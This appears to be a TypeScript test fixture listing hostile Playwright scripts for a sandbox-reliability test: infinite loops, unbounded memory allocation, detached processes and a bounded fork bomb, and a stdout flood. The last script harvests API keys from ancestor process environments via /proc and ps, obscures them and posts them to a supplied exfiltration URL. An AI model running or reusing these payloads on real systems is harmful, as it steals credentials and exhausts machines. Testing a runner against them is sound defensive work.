// The hostile multistep scripts of test/reliability/hostile.test.ts, with what each must end as.
// Whatever they start is tagged with `tag` on its command line (`sleep <tag>`) so the test can look
// for leftovers.

export interface HostileCase {
  id: string
  timeoutSeconds: number
  script: string
  /** The failed result expected; undefined for a script that is allowed to pass (it only snoops). */
  expect?: { code: RegExp; message: RegExp }
}

export function hostileScripts(options: { tag: string; exfilUrl: string }): HostileCase[] {
  const { tag } = options
  return [
    {
      id: 'loops-forever',
      timeoutSeconds: 8,
      // A blocked event loop: Playwright's own timeout cannot fire, only the agent's kill ends it.
      script: `import { test } from '@playwright/test'
test('spins', async () => {
  await test.step('spin', async () => { for (;;) {} })
})
`,
      expect: { code: /^TIMEOUT$/, message: /timed out after 8 s/ },
    },
    {
      id: 'allocates-forever',
      timeoutSeconds: 20,
      script: `import { test } from '@playwright/test'
test('hoards', async () => {
  const hoard = []
  for (;;) hoard.push(new Array(1 << 20).fill(hoard.length + 0.5))
})
`,
      expect: { code: /^OUT_OF_MEMORY$/, message: /ran out of memory/ },
    },
    {
      id: 'forks-children',
      timeoutSeconds: 8,
      script: `import { test } from '@playwright/test'
import { spawn } from 'node:child_process'
test('forks', async () => {
  for (let i = 0; i < 4; i++) spawn('sleep', ['${tag}'], { stdio: 'ignore' })
  // Own session, empty environment: outside the run's process group and without its marker variable.
  for (let i = 0; i < 4; i++) spawn('sleep', ['${tag}'], { stdio: 'ignore', detached: true, env: {} }).unref()
  // A fork bomb bounded to 16 leaves: each shell starts two more and returns, orphaning them at once.
  spawn('sh', ['-c', 'b() { if [ "$1" -ge 4 ]; then exec sleep ${tag}; fi; b $(($1+1)) & b $(($1+1)) & }; b 0'], { stdio: 'ignore' })
  await new Promise(() => {})
})
`,
      // Playwright's own timeout (6 s) or the agent's kill (8 s), whichever comes first on a busy machine.
      expect: { code: /^TIMEOUT$/, message: /Test timeout of 6000ms exceeded|timed out after 8 s/ },
    },
    {
      id: 'floods-stdout',
      timeoutSeconds: 10,
      script: `import { test } from '@playwright/test'
test('floods', async () => {
  const chunk = 'y'.repeat(1 << 20) + '\\n'
  for (let i = 0; ; i++) {
    process.stdout.write(chunk)
    if (i % 8 === 0) await new Promise((r) => setImmediate(r))
  }
})
`,
      expect: { code: /^TIMEOUT$/, message: /timed out|Test timeout/ },
    },
    {
      id: 'hunts-api-key',
      timeoutSeconds: 30,
      // Reports every API_KEY it can find, reversed so the agent's scrubber would not recognise it.
      script: `import { test } from '@playwright/test'
import { execSync } from 'node:child_process'
import { readdirSync, readFileSync } from 'node:fs'
const keysIn = (text) => [...text.matchAll(/API_KEY=([^\\0\\s]+)/g)].map((m) => [...m[1]].reverse().join(''))
test('hunts', async ({ request }) => {
  const found = []
  found.push({ source: 'process.env', values: process.env.API_KEY ? [[...process.env.API_KEY].reverse().join('')] : [] })
  let pid = process.pid
  for (let depth = 0; depth < 8 && pid > 1; depth++) {
    const stat = readFileSync('/proc/' + pid + '/stat', 'utf8')
    const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1])
    if (ppid <= 1) break
    const cmd = readFileSync('/proc/' + ppid + '/cmdline', 'latin1').replaceAll('\\0', ' ')
    try {
      found.push({ source: 'ancestor ' + ppid + ' environ', cmd, values: keysIn(readFileSync('/proc/' + ppid + '/environ', 'latin1')) })
    } catch (e) {
      found.push({ source: 'ancestor ' + ppid + ' environ', cmd, values: [], error: String(e.code) })
    }
    try {
      found.push({ source: 'ps e ' + ppid, values: keysIn(execSync('ps e -ww -o args= -p ' + ppid, { encoding: 'utf8' })) })
    } catch {}
    pid = ppid
  }
  await request.post('${options.exfilUrl}', { data: JSON.stringify(found) })
})
`,
    },
  ]
}
